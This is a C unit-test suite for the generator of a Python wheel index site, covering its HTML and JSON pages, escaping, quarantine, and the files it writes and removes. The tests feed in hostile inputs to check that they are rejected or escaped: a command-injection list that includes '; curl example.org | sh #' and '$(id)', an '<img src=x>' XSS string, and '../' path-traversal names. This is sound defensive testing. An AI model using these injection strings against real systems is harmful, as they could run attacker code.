/* The pages of the site: links and attributes of the index, JSON, escaping, and what is written and removed on disk. */
#include "shared/scribe/errands.c"
#include "shared/scribe/jobs.c"
#include "shared/scribe/page_index.c"
#include "shared/scribe/page_json.c"
#include "shared/scribe/roster.c"
#include "shared/scribe/simple_json.c"

#include "db.piw.h"
#include "piw/codec.h"
#include "shared/site_mark.h"
#include "unit.h"

#include <cjson/cJSON.h>
#include <zlib.h>

static char root[UNIT_FOLDER];
static piw_msg *msg;
static project_data *data;
static site_facts site;

/* A release without files. */
static project_release *release(uint32_t i, const char *version)
{
    project_release *r = &data->releases.at[i];
    r->version = piw_text_of(version);
    r->released = (piw_time){1700000000000000 + i, 0};
    r->skip = piw_text_of("");
    return r;
}

static project_file *file(project_release *r, uint32_t i, const char *name)
{
    project_file *f = &r->files.at[i];
    f->filename = piw_text_of(name);
    f->location = piw_text_of("/simple");
    f->filehash = piw_text_of("4ba2136a5bc66d60f3d9c45ae6dda132465e5c4f759b80b73b700b5c7faccd68");
    f->filesize = 1220;
    f->builder_abi = piw_text_of("cp311");
    f->file_abi = piw_text_of("none");
    f->platform = piw_text_of("any");
    return f;
}

static void setup(void)
{
    piw_protocol_use(&db_protocol_def);
    piw_protocol_use(&the_scribe_protocol_def);
    unit_folder(root);
    ck_assert_int_eq(piw_site_mark_write(root, "0123456789abcdef0123456789abcdef", NULL), 0);
    db_PROJECT_reply *body;
    msg = db_PROJECT_reply_new(&body);
    data = &body->data;
    site = (site_facts){piw_text_of(root), piw_text_of("piwheels"), piw_text_of("http://wheels.test")};
    data->package = piw_text_of("gold-pure");
    data->name = piw_text_of("Gold.Pure");
    data->description = piw_text_of("Golden summary \xe2\x9c\x93 <script>");
    data->skip = piw_text_of("");
    piw_msg_list(msg, &data->releases, 4);
    release(0, "1.2");
    release(1, "1.10")->yanked = true;
    release(2, "1.10rc1");
    release(3, "1.3")->skip = piw_text_of("deleted");
    for (uint32_t i = 0; i < 4; i++)
        piw_msg_list(msg, &data->releases.at[i].files, 1);
    project_file *f = file(&data->releases.at[0], 0, "Gold.Pure-1.2-py3-none-any.whl");
    f->requires_python = piw_text_of(">=3.6,<4");
    f->metadata_hash = piw_text_of("aa");
    piw_msg_list(msg, &f->apt_dependencies, 2);
    f->apt_dependencies.at[0] = piw_text_of("libgold1");
    f->apt_dependencies.at[1] = piw_text_of("libgold1");
    file(&data->releases.at[1], 0, "Gold.Pure-1.10-py3-none-any.whl");
    file(&data->releases.at[2], 0, "Gold.Pure-1.10rc1+x-py3-none-any.whl");
    file(&data->releases.at[3], 0, "Gold.Pure-1.3-py3-none-any.whl");
    piw_msg_list(msg, &data->releases.at[0].abis, 2);
    int64_t *build_id = piw_msg_alloc(msg, sizeof(*build_id));
    *build_id = 12;
    data->releases.at[0].abis.at[0].key = piw_text_of("cp311");
    data->releases.at[0].abis.at[0].value = (project_abi){piw_text_of("success"), build_id};
    data->releases.at[0].abis.at[1].key = piw_text_of("cp39");
    data->releases.at[0].abis.at[1].value = (project_abi){piw_text_of("pending"), NULL};
    piw_msg_list(msg, &data->aliases, 2);
    data->aliases.at[0] = piw_text_of("Gold.Pure");
    data->aliases.at[1] = piw_text_of("../outside");
}

static void teardown(void)
{
    piw_msg_free(&msg);
    unit_remove(root);
}

static char *text_of(piw_buffer *page)
{
    ck_assert_int_eq(piw_buffer_add(page, "", 1), 0);
    return (char *)page->data;
}

/* Append the project's page. */
static void make_project(piw_buffer *page)
{
    piw_err err = {0};
    ck_assert_msg(page_project(&site, data, page, &err) == 0, "%s", err.text);
}

START_TEST(the_index_has_its_links_and_attributes)
{
    piw_buffer page = {0};
    page_index(data, (piw_text){0}, &page);
    const char *html = text_of(&page);
    ck_assert_ptr_nonnull(strstr(html, "<!DOCTYPE html>"));
    ck_assert_ptr_nonnull(strstr(html, "<meta name=\"pypi:repository-version\" content=\"1.4\">"));
    static const char hash[] = "#sha256=4ba2136a5bc66d60f3d9c45ae6dda132465e5c4f759b80b73b700b5c7faccd68";
    char link[512];
    snprintf(link, sizeof(link),
             "<a href=\"Gold.Pure-1.2-py3-none-any.whl%s\" data-requires-python=\"&gt;=3.6,&lt;4\" "
             "data-core-metadata=\"sha256=aa\">Gold.Pure-1.2-py3-none-any.whl</a>",
             hash);
    const char *old = strstr(html, link);
    ck_assert_msg(old != NULL, "%s", html);
    snprintf(link, sizeof(link), "<a href=\"Gold.Pure-1.10-py3-none-any.whl%s\" data-yanked=\"\">", hash);
    const char *newest = strstr(html, link);
    ck_assert_ptr_nonnull(newest);
    const char *pre = strstr(html, "Gold.Pure-1.10rc1+x-");
    ck_assert_ptr_nonnull(pre);
    ck_assert(newest < pre && pre < old);
    ck_assert_ptr_null(strstr(html, "dist-info-metadata"));
    ck_assert_ptr_null(strstr(html, "1.3-py3"));
    piw_buffer_fini(&page);
}
END_TEST

static cJSON *index_form(void);

/* Of an adopted database: an index with such a name stops newer installers. The file is kept and shown to people. */
START_TEST(names_that_no_installer_reads_are_not_in_the_index)
{
    static const char *const names[] = {"Gold.Pure-latest-py3-none-any.whl", "Gold.Pure-1.2-x-py3-none-any.whl"};
    for (size_t i = 0; i < PIW_COUNT(names); i++) {
        file(&data->releases.at[1], 0, names[i]);
        piw_buffer page = {0}, project = {0};
        page_index(data, (piw_text){0}, &page);
        const char *html = text_of(&page);
        ck_assert_ptr_null(strstr(html, names[i]));
        ck_assert_ptr_nonnull(strstr(html, "Gold.Pure-1.2-py3-none-any.whl"));
        make_project(&project);
        ck_assert_ptr_nonnull(strstr(text_of(&project), names[i]));
        cJSON *json = index_form();
        char *text = cJSON_PrintUnformatted(json);
        ck_assert_ptr_null(strstr(text, names[i]));
        ck_assert_ptr_null(strstr(text, "1.10\""));
        ck_assert_ptr_nonnull(strstr(text, "Gold.Pure-1.2-py3-none-any.whl"));
        cJSON_free(text);
        cJSON_Delete(json);
        piw_buffer_fini(&page);
        piw_buffer_fini(&project);
    }
}
END_TEST

/* All pages of the package, in one text. The caller frees. */
static char *all_pages(void)
{
    piw_buffer page = {0};
    page_index(data, (piw_text){0}, &page);
    make_project(&page);
    page_json(&site, data, &page);
    simple_json_index(data, (piw_text){0}, &page);
    return text_of(&page);
}

START_TEST(what_is_quarantined_is_on_no_page)
{
    data->releases.at[0].skip = piw_text_of("quarantined");
    char *pages = all_pages();
    ck_assert_msg(strstr(pages, "1.2-py3") == NULL, "%s", pages);
    ck_assert_ptr_nonnull(strstr(pages, "1.10-py3"));
    ck_assert_ptr_null(strstr(pages, "project-status"));
    free(pages);
    data->releases.at[0].skip = piw_text_of("");
    data->skip = piw_text_of("quarantined");
    pages = all_pages();
    ck_assert_msg(strstr(pages, ".whl") == NULL, "%s", pages);
    ck_assert_ptr_nonnull(strstr(pages, "<meta name=\"pypi:project-status\" content=\"quarantined\">"));
    ck_assert_ptr_nonnull(strstr(pages, "\"project-status\":{\"status\":\"quarantined\"}"));
    ck_assert_ptr_nonnull(strstr(pages, "under quarantine"));
    free(pages);
}
END_TEST

START_TEST(files_of_another_place_are_linked_there)
{
    data->releases.at[0].files.at[0].location = piw_text_of("https://elsewhere.test/s");
    piw_buffer page = {0};
    page_index(data, (piw_text){0}, &page);
    ck_assert_ptr_nonnull(
        strstr(text_of(&page), "<a href=\"https://elsewhere.test/s/gold-pure/Gold.Pure-1.2-py3-none-any.whl#"));
    piw_buffer_fini(&page);
}
END_TEST

START_TEST(the_json_is_well_formed_and_says_all)
{
    piw_buffer page = {0};
    page_json(&site, data, &page);
    cJSON *json = cJSON_Parse(text_of(&page));
    ck_assert_msg(json != NULL, "%s", (char *)page.data);
    ck_assert_str_eq(cJSON_GetObjectItem(json, "package")->valuestring, "gold-pure");
    ck_assert_str_eq(cJSON_GetObjectItem(json, "summary")->valuestring, "Golden summary \xe2\x9c\x93 <script>");
    ck_assert_str_eq(cJSON_GetObjectItem(json, "pypi_url")->valuestring, "https://pypi.org/project/gold-pure");
    ck_assert_str_eq(cJSON_GetObjectItem(json, "piwheels_url")->valuestring, "http://wheels.test/project/gold-pure");
    cJSON *releases = cJSON_GetObjectItem(json, "releases");
    ck_assert_int_eq(cJSON_GetArraySize(releases), 3);
    ck_assert_str_eq(releases->child->string, "1.10");
    ck_assert(cJSON_IsTrue(cJSON_GetObjectItem(releases->child, "yanked")));
    ck_assert(cJSON_IsTrue(cJSON_GetObjectItem(releases->child->next, "prerelease")));
    cJSON *oldest = cJSON_GetObjectItem(releases, "1.2");
    ck_assert_str_eq(cJSON_GetObjectItem(oldest, "released")->valuestring, "2023-11-14 22:13:20");
    ck_assert_str_eq(cJSON_GetObjectItem(oldest, "skip_reason")->valuestring, "");
    cJSON *wheel = cJSON_GetObjectItem(cJSON_GetObjectItem(oldest, "files"), "Gold.Pure-1.2-py3-none-any.whl");
    ck_assert_str_eq(cJSON_GetObjectItem(wheel, "file_url")->valuestring,
                     "/simple/gold-pure/Gold.Pure-1.2-py3-none-any.whl");
    ck_assert_int_eq(cJSON_GetObjectItem(wheel, "filesize")->valueint, 1220);
    ck_assert_str_eq(cJSON_GetObjectItem(wheel, "requires_python")->valuestring, ">=3.6,<4");
    ck_assert_int_eq(cJSON_GetArraySize(cJSON_GetObjectItem(wheel, "apt_dependencies")), 2);
    cJSON *newest = cJSON_GetObjectItem(releases->child, "files")->child;
    ck_assert(cJSON_IsNull(cJSON_GetObjectItem(newest, "requires_python")));
    cJSON_Delete(json);
    piw_buffer_fini(&page);
}
END_TEST

START_TEST(the_page_for_people_is_escaped)
{
    piw_buffer page = {0};
    data->releases.at[1].skip = piw_text_of("\"><img src=x>");
    make_project(&page);
    const char *html = text_of(&page);
    ck_assert_ptr_null(strstr(html, "<script"));
    ck_assert_ptr_null(strstr(html, "<img"));
    ck_assert_ptr_nonnull(strstr(html, "sudo apt install libgold1\npip3 install --extra-index-url "
                                       "http://wheels.test/simple gold-pure</code></pre>"));
    ck_assert_ptr_nonnull(strstr(html, "<a class=\"state success\" href=\"../../logs/0000/0000/0012.txt\">built</a>"));
    const char *cp39 = strstr(html, "<th scope=\"col\">cp39</th>"),
               *cp311 = strstr(html, "<th scope=\"col\">cp311</th>");
    ck_assert(cp39 != NULL && cp311 != NULL && cp39 < cp311);
    ck_assert_ptr_nonnull(strstr(html, "<a href=\"../../simple/gold-pure/Gold.Pure-1.2-py3-none-any.whl\">"));
    piw_buffer_fini(&page);
}
END_TEST

static void skip_all(const char *first, const char *second)
{
    for (uint32_t i = 0; i < data->releases.count; i++) {
        project_release *r = &data->releases.at[i];
        piw_msg_list(msg, &r->abis, 2);
        r->abis.at[0].key = piw_text_of(first);
        r->abis.at[1].key = piw_text_of(second);
        r->abis.at[0].value = r->abis.at[1].value = (project_abi){piw_text_of("skip"), NULL};
    }
}

static int count_of(const char *text, const char *part)
{
    int count = 0;
    for (; (text = strstr(text, part)) != NULL; text += strlen(part))
        count++;
    return count;
}

/* What is so for all versions is one sentence, however many there are. */
START_TEST(what_is_skipped_for_all_versions_is_said_once)
{
    piw_buffer page = {0};
    skip_all("cp31", "cp311");
    data->releases.at[1].skip = piw_text_of("by hand");
    make_project(&page);
    const char *html = text_of(&page);
    ck_assert_ptr_nonnull(strstr(html, "At present nothing at all is built for cp31, cp311.<"));
    ck_assert_int_eq(count_of(html, "nothing at all"), 1);
    ck_assert_int_eq(count_of(html, "isn&#39;t built"), 1);
    ck_assert_int_eq(count_of(html, "isn&#39;t built: by hand."), 1);
    piw_buffer_fini(&page);
    data->skip = piw_text_of("binary only");
    data->releases.at[1].skip = piw_text_of("");
    make_project(&page);
    html = text_of(&page);
    ck_assert_int_eq(count_of(html, "no source archive"), 1);
    ck_assert_ptr_null(strstr(html, "What is missing"));
    piw_buffer_fini(&page);
}
END_TEST

/* Names that another master left in the database: what isn't one of Debian's would be run by whoever pastes the line. */
START_TEST(only_debian_names_are_in_the_install_line)
{
    static const char *const bad[] = {
        "; curl example.org | sh #", "-oAPT::x=1", "$(id)", "Libgold", "a", "lib gold", ""};
    project_file *wheel = &data->releases.at[0].files.at[0];
    piw_msg_list(msg, &wheel->apt_dependencies, PIW_COUNT(bad) + 2);
    for (size_t i = 0; i < PIW_COUNT(bad); i++)
        wheel->apt_dependencies.at[i] = piw_text_of(bad[i]);
    wheel->apt_dependencies.at[PIW_COUNT(bad)] = piw_text_of("libopenblas0");
    wheel->apt_dependencies.at[PIW_COUNT(bad) + 1] = piw_text_of("libgold1:armhf");
    piw_buffer page = {0};
    make_project(&page);
    ck_assert_ptr_nonnull(strstr(text_of(&page), "<code>sudo apt install libgold1:armhf libopenblas0\npip3 install "));
    piw_buffer_fini(&page);

    wheel->apt_dependencies.count = PIW_COUNT(bad);
    make_project(&page);
    ck_assert_ptr_nonnull(strstr(text_of(&page), "<code>pip3 install "));
    piw_buffer_fini(&page);
}
END_TEST

/* --- On disk --- */

static const char *at(const char *name)
{
    static char path[PIW_PATH_MAX];
    snprintf(path, sizeof(path), "%s/%s", root, name);
    return path;
}

static bool is_there(const char *name)
{
    return unit_exists(at(name));
}

static void run(piw_work_fn *fn, piw_msg *job)
{
    piw_msg *result = NULL;
    piw_err err = {0};
    ck_assert_msg(fn(job, &result, &err) == 0, "%s", err.text);
    ck_assert_ptr_nonnull(result);
    piw_msg_free(&result);
    piw_msg_free(&job);
}

static const simple_json *json_form;

static int write_pages_fn(piw_msg *job, piw_msg **result, piw_err *err)
{
    return job_write_pages(job, json_form, result, err);
}

static int write_root_fn(piw_msg *job, piw_msg **result, piw_err *err)
{
    return job_write_root(job, json_form, result, err);
}

static void write_pages_now(bool index)
{
    write_pages *body;
    piw_msg *job = write_pages_new(&body);
    body->site = site;
    body->index = index;
    body->data = *data;
    run(write_pages_fn, job);
}

static void write_root_now(piw_blob *names)
{
    write_root *body;
    piw_msg *job = write_root_new(&body);
    body->site = site;
    body->names = names;
    run(write_root_fn, job);
}

START_TEST(pages_are_written_and_removed)
{
    write_pages_now(true);
    ck_assert(is_there("simple/gold-pure/index.html"));
    ck_assert(is_there("project/gold-pure/index.html"));
    ck_assert(is_there("project/gold-pure/json/index.json"));
    ck_assert(!is_there("outside"));
    char target[64] = "";
    ck_assert_int_eq(readlink(at("project/Gold.Pure"), target, sizeof(target)), 9);
    ck_assert_str_eq(target, "gold-pure");
    /* The page that another writer left beside ours goes. */
    ck_assert_int_eq(piw_file_write(root, at("simple/gold-pure/index.v1.json"), "{}", 2, 0, NULL), 0);
    data->aliases.at[0] = piw_text_of("GOLD_pure");
    write_pages_now(true);
    ck_assert(!is_there("simple/gold-pure/index.v1.json"));
    ck_assert(is_there("project/GOLD_pure"));
    ck_assert(!is_there("project/Gold.Pure"));
    ck_assert_int_eq(piw_file_write(root, at("simple/gold-pure/lingers.whl"), "x", 1, 0, NULL), 0);
    remove_pages *body;
    piw_msg *job = remove_pages_new(&body);
    body->site = site;
    body->package = data->package;
    run(job_remove_pages, job);
    ck_assert(!is_there("project/gold-pure"));
    ck_assert(!is_there("project/GOLD_pure"));
    ck_assert(!is_there("simple/gold-pure/index.html"));
    ck_assert(is_there("simple/gold-pure/lingers.whl"));
}
END_TEST

START_TEST(project_pages_alone_leave_the_index)
{
    write_pages_now(false);
    ck_assert(!is_there("simple/gold-pure"));
    ck_assert(is_there("project/gold-pure/index.html"));
}
END_TEST

START_TEST(a_name_that_is_no_package_touches_nothing)
{
    write_pages *body;
    piw_msg *job = write_pages_new(&body), *result = NULL;
    body->site = site;
    body->index = true;
    body->data = *data;
    body->data.package = piw_text_of("../gold");
    piw_err err = {0};
    ck_assert_int_ne(job_write_pages(job, NULL, &result, &err), 0);
    piw_msg_free(&job);
    ck_assert(!is_there("simple") && !is_there("project"));
}
END_TEST

START_TEST(a_folder_without_its_mark_is_left_alone)
{
    ck_assert_int_eq(piw_file_remove(at(".farm"), NULL), 0);
    write_pages *body;
    piw_msg *job = write_pages_new(&body), *result = NULL;
    body->site = site;
    body->index = true;
    body->data = *data;
    piw_err err = {0};
    ck_assert_int_eq(job_write_pages(job, NULL, &result, &err), PIW_EIO);
    ck_assert_ptr_nonnull(strstr(err.text, ".farm is missing"));
    piw_msg_free(&job);
    ck_assert_int_eq(rmdir(root), 0);
    ck_assert_int_ne(piw_file_write(root, at("page"), "x", 1, 0, NULL), 0);
    ck_assert(!is_there(""));
    ck_assert_int_eq(mkdir(root, 0755), 0);
}
END_TEST

START_TEST(the_root_list_holds_all_names)
{
    roster names = {0};
    static const char *const some[] = {"b", "d", "a", "c", "a"};
    for (size_t i = 0; i < PIW_COUNT(some); i++)
        ck_assert_int_eq(roster_add(&names, piw_text_of(some[i])), i < 4);
    ck_assert(roster_remove(&names, piw_text_of("c")));
    ck_assert(!roster_remove(&names, piw_text_of("c")));
    piw_blob *blob = roster_blob(&names);
    write_root_now(blob);
    piw_blob_unref(&blob);
    roster_fini(&names);
    void *page;
    size_t len;
    ck_assert_int_eq(piw_file_read(at("simple/index.html"), 10000, &page, &len, NULL), 0);
    ck_assert_ptr_nonnull(
        strstr(page, "<a href=\"a/\">a</a><br>\n<a href=\"b/\">b</a><br>\n<a href=\"d/\">d</a><br>\n"));
    free(page);
}
END_TEST

/* --- The JSON form of the simple index --- */

static const char *string_of(const cJSON *object, const char *name)
{
    const cJSON *item = cJSON_GetObjectItemCaseSensitive(object, name);
    ck_assert_msg(cJSON_IsString(item), "%s is no text", name);
    return item->valuestring;
}

static cJSON *index_form(void)
{
    piw_buffer page = {0};
    simple_json_index(data, (piw_text){0}, &page);
    /* Debian 12's pip crashes where this key stands. */
    const char *text = text_of(&page);
    ck_assert_ptr_null(strstr(text, "dist-info-metadata"));
    cJSON *json = cJSON_Parse(text);
    ck_assert_msg(json != NULL, "%s", text);
    piw_buffer_fini(&page);
    return json;
}

START_TEST(the_json_form_says_what_the_html_form_says)
{
    data->releases.at[0].files.at[0].uploaded = (piw_time){1700000000000000, 0};
    data->releases.at[1].files.at[0].uploaded = (piw_time){1700000000000042, 60};
    data->releases.at[1].files.at[0].location = piw_text_of("https://elsewhere.test/s");
    data->releases.at[2].files.count = 0;
    cJSON *json = index_form();
    ck_assert_str_eq(string_of(cJSON_GetObjectItem(json, "meta"), "api-version"), "1.4");
    ck_assert_str_eq(string_of(json, "name"), "gold-pure");
    char *versions = cJSON_PrintUnformatted(cJSON_GetObjectItem(json, "versions"));
    ck_assert_str_eq(versions, "[\"1.10\",\"1.2\"]");
    cJSON_free(versions);
    const cJSON *files = cJSON_GetObjectItem(json, "files");
    ck_assert_int_eq(cJSON_GetArraySize(files), 2);
    const cJSON *newest = cJSON_GetArrayItem(files, 0), *old = cJSON_GetArrayItem(files, 1);
    ck_assert_str_eq(string_of(newest, "filename"), "Gold.Pure-1.10-py3-none-any.whl");
    ck_assert_str_eq(string_of(newest, "url"), "https://elsewhere.test/s/gold-pure/Gold.Pure-1.10-py3-none-any.whl");
    ck_assert_str_eq(string_of(newest, "upload-time"), "2023-11-14T22:13:20.000042Z");
    ck_assert(cJSON_IsTrue(cJSON_GetObjectItem(newest, "yanked")));
    ck_assert_ptr_null(cJSON_GetObjectItem(newest, "requires-python"));
    ck_assert_ptr_null(cJSON_GetObjectItem(newest, "core-metadata"));
    ck_assert_str_eq(string_of(old, "url"), "Gold.Pure-1.2-py3-none-any.whl");
    ck_assert_str_eq(string_of(cJSON_GetObjectItem(old, "hashes"), "sha256"),
                     "4ba2136a5bc66d60f3d9c45ae6dda132465e5c4f759b80b73b700b5c7faccd68");
    ck_assert_double_eq(cJSON_GetObjectItem(old, "size")->valuedouble, 1220);
    ck_assert_str_eq(string_of(old, "upload-time"), "2023-11-14T22:13:20.000000Z");
    ck_assert_str_eq(string_of(old, "requires-python"), ">=3.6,<4");
    ck_assert(cJSON_IsFalse(cJSON_GetObjectItem(old, "yanked")));
    ck_assert_str_eq(string_of(cJSON_GetObjectItem(old, "core-metadata"), "sha256"), "aa");
    cJSON_Delete(json);
}
END_TEST

START_TEST(the_json_form_goes_with_its_writer)
{
    static const char both[] = "a\0b";
    piw_blob *names = piw_blob_new(both, sizeof(both));
    void *list;
    size_t len;
    json_form = &simple_json_forms;
    write_pages_now(true);
    write_root_now(names);
    ck_assert(is_there("simple/gold-pure/index.html"));
    ck_assert(is_there("simple/gold-pure/index.v1.json"));
    ck_assert(is_there("simple/index.html"));
    ck_assert_int_eq(piw_file_read(at("simple/index.v1.json"), 1000, &list, &len, NULL), 0);
    ck_assert_str_eq(list, "{\"meta\":{\"api-version\":\"1.4\"},\"projects\":[{\"name\":\"a\"},{\"name\":\"b\"}]}\n");
    free(list);
    json_form = NULL;
    write_pages_now(true);
    write_root_now(names);
    ck_assert(is_there("simple/gold-pure/index.html"));
    ck_assert(!is_there("simple/gold-pure/index.v1.json"));
    ck_assert(is_there("simple/index.html"));
    ck_assert(!is_there("simple/index.v1.json"));
    piw_blob_unref(&names);
}
END_TEST

/* At a start without the database: what isn't known isn't said to be nothing. */
START_TEST(without_figures_none_are_told)
{
    static const char *const names[] = {"index.html", "packages.html", "stats.html"};
    for (size_t i = 0; i < PIW_COUNT(names); i++) {
        piw_buffer page = {0};
        piw_err err = {0};
        ck_assert_msg(page_site(&site, names[i], NULL, 0, &page, &err) == 0, "%s", err.text);
        const char *html = text_of(&page);
        ck_assert_ptr_null(strstr(html, "<strong>"));
        ck_assert_ptr_null(strstr(html, "<dd>"));
        ck_assert_ptr_nonnull(strstr(html, "class=\"lead\""));
        piw_buffer_fini(&page);
    }
}
END_TEST

/* packages.json and the sitemaps for so many projects, p0 and on. */
static void write_search_now(uint32_t count)
{
    piw_buffer downloads = {0}, names = {0};
    page_downloads_begin(&downloads);
    for (uint32_t i = 0; i < count; i++) {
        char name[32];
        int n = snprintf(name, sizeof(name), "p%u", i);
        page_downloads_add(&(package_downloads){piw_text_of(name), i, 2 * (int64_t)i}, i == 0, &downloads);
        ck_assert_int_eq(piw_buffer_add(&names, name, (size_t)n + 1), 0);
    }
    page_downloads_end(&downloads);
    write_search *body;
    piw_msg *job = write_search_new(&body), *result = NULL;
    body->site = site;
    piw_blob *blobs[2] = {piw_blob_new(downloads.data, downloads.len), piw_blob_new(names.data, names.len)};
    piw_value_copy(job, write_search_type()->body->fields[1].type, &blobs[0], &body->downloads);
    piw_value_copy(job, write_search_type()->body->fields[2].type, &blobs[1], &body->names);
    piw_err err = {0};
    ck_assert_msg(job_write_search(job, &result, &err) == 0, "%s", err.text);
    piw_msg_free(&result);
    piw_msg_free(&job);
    piw_blob_unref(&blobs[0]);
    piw_blob_unref(&blobs[1]);
    piw_buffer_fini(&downloads);
    piw_buffer_fini(&names);
}

/* Is this in the file? */
static bool holds(const char *name, const char *text)
{
    void *content;
    size_t len;
    ck_assert_int_eq(piw_file_read(at(name), 64 << 20, &content, &len, NULL), 0);
    bool found = strstr(content, text) != NULL;
    free(content);
    return found;
}

START_TEST(search_index_and_sitemaps_name_every_project)
{
    write_search_now(PAGE_SITEMAP_PROJECTS + 1);
    ck_assert(holds("packages.json", "[[\"p0\",0,0],[\"p1\",1,2],"));
    ck_assert(holds("packages.json", ",[\"p50000\",50000,100000]]"));
    ck_assert(holds("sitemap0.xml", "<url><loc>http://wheels.test/faq.html</loc></url>"));
    ck_assert(holds("sitemap1.xml", "<url><loc>http://wheels.test/project/p49999</loc></url>"));
    ck_assert(!holds("sitemap1.xml", "/p50000<"));
    ck_assert(holds("sitemap2.xml", "<url><loc>http://wheels.test/project/p50000</loc></url>"));
    ck_assert(holds("sitemap.xml", "<loc>http://wheels.test/sitemap2.xml</loc><lastmod>20"));
    ck_assert(!is_there("sitemap3.xml"));
    write_search_now(1);
    ck_assert(holds("packages.json", "[[\"p0\",0,0]]"));
    ck_assert(!holds("sitemap.xml", "sitemap2.xml"));
    ck_assert(!is_there("sitemap2.xml"));
    write_search_now(0);
    ck_assert(holds("packages.json", "[]"));
    ck_assert(!is_there("sitemap1.xml"));
}
END_TEST

/* The names of a piece of the search list, with a blank after each. */
static void read_piece(const char *list, const char *before, char *names, size_t size)
{
    char path[64], packed[1 << 16];
    const char *file = strstr(list, before);
    ck_assert_ptr_nonnull(file);
    snprintf(path, sizeof(path), "search/%.23s", file + strlen(before));
    gzFile in = gzopen(at(path), "rb");
    ck_assert_ptr_nonnull(in);
    int n = gzread(in, packed, sizeof(packed)), to = 0;
    gzclose(in);
    char name[256];
    for (int i = 0; i < n;) {
        int len = (unsigned char)packed[i++];
        while ((packed[i] & 0x80) == 0)
            name[len++] = packed[i++];
        to += snprintf(names + to, size - (size_t)to, "%.*s:%d ", len, name, packed[i++] & 0x7f);
    }
}

START_TEST(search_pieces_have_every_name)
{
    char names[1024] = "";
    void *list;
    size_t len;
    write_search_now(4);
    ck_assert_int_eq(piw_file_read(at("search/index.json"), 1000, &list, &len, NULL), 0);
    ck_assert_ptr_nonnull(strstr(list, "\"count\":4}"));
    read_piece(list, "[\"p0\",\"", names, sizeof(names));
    ck_assert_str_eq(names, "p0:0 p1:0 p2:0 p3:0 ");
    read_piece(list, "\"popular\":\"", names, sizeof(names));
    ck_assert_str_eq(names, "p1:1 p2:2 p3:2 ");
    free(list);
}
END_TEST

/* One more name changes one piece, so that browsers keep the others. */
START_TEST(one_more_name_changes_one_piece)
{
    char path[64], first[24], again[24];
    void *list;
    size_t len;
    for (int turn = 0; turn < 2; turn++) {
        write_search_now(PAGE_SITEMAP_PROJECTS + (uint32_t)turn);
        ck_assert_int_eq(piw_file_read(at("search/index.json"), 10000, &list, &len, NULL), 0);
        snprintf(turn == 0 ? first : again, 24, "%.23s", strstr(list, "[\"p0\",\"") + 7);
        free(list);
    }
    ck_assert_str_eq(first, again);
    snprintf(path, sizeof(path), "search/%s", first);
    ck_assert(is_there(path));
}
END_TEST

START_TEST(errands_of_one_package_follow_each_other)
{
    errands all = {0};
    errand *first = errands_add(&all, piw_text_of("gold"), PART_PROJECT, (piw_token){1});
    first->saved.step = STEP_ASK;
    errand *other = errands_add(&all, piw_text_of("silver"), PART_BOTH, (piw_token){2});
    errand *second = errands_add(&all, piw_text_of("gold"), PART_BOTH, (piw_token){3});
    ck_assert_ptr_eq(errands_running(&all, "gold"), first);
    ck_assert_ptr_eq(errands_queued(&all, "gold"), second);
    ck_assert_ptr_null(errands_running(&all, "silver"));
    ck_assert_ptr_eq(errands_find(&all, other->saved.number), other);
    errands_remove(&all, second);
    ck_assert_ptr_eq(all.last, other);
    errands_remove(&all, first);
    ck_assert_ptr_eq(all.first, other);
    errands_fini(&all);
    ck_assert_uint_eq(all.count, 0);
}
END_TEST

Suite *unit_suite(void)
{
    Suite *suite = suite_create("pages");
    TCase *tests = tcase_create("pages");
    tcase_add_checked_fixture(tests, setup, teardown);
    tcase_add_test(tests, the_index_has_its_links_and_attributes);
    tcase_add_test(tests, names_that_no_installer_reads_are_not_in_the_index);
    tcase_add_test(tests, what_is_quarantined_is_on_no_page);
    tcase_add_test(tests, files_of_another_place_are_linked_there);
    tcase_add_test(tests, the_json_is_well_formed_and_says_all);
    tcase_add_test(tests, the_page_for_people_is_escaped);
    tcase_add_test(tests, what_is_skipped_for_all_versions_is_said_once);
    tcase_add_test(tests, only_debian_names_are_in_the_install_line);
    tcase_add_test(tests, pages_are_written_and_removed);
    tcase_add_test(tests, project_pages_alone_leave_the_index);
    tcase_add_test(tests, a_name_that_is_no_package_touches_nothing);
    tcase_add_test(tests, a_folder_without_its_mark_is_left_alone);
    tcase_add_test(tests, the_root_list_holds_all_names);
    tcase_add_test(tests, the_json_form_says_what_the_html_form_says);
    tcase_add_test(tests, the_json_form_goes_with_its_writer);
    tcase_add_test(tests, without_figures_none_are_told);
    tcase_add_test(tests, search_index_and_sitemaps_name_every_project);
    tcase_add_test(tests, search_pieces_have_every_name);
    tcase_add_test(tests, one_more_name_changes_one_piece);
    tcase_add_test(tests, errands_of_one_package_follow_each_other);
    suite_add_tcase(suite, tests);
    return suite;
}
